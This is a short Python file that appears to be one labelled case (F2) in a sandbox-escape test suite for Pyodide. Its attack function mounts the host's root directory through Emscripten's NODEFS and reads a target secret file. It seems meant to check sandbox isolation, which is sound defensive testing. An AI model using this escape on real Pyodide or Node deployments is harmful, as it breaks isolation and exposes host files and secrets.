"""The host's root directory, by Emscripten's NODEFS.

id: F2
canary: secret
spoils: a mount
"""

import js
import pyodide_js
from pyodide.ffi import to_js


def attack(target):
    fs = pyodide_js.FS
    fs.mkdir("/h")
    root = to_js({"root": "/"}, dict_converter=js.Object.fromEntries)
    fs.mount(fs.filesystems.NODEFS, root, "/h")
    with open("/h" + target.secret_file) as file:
        return file.read()
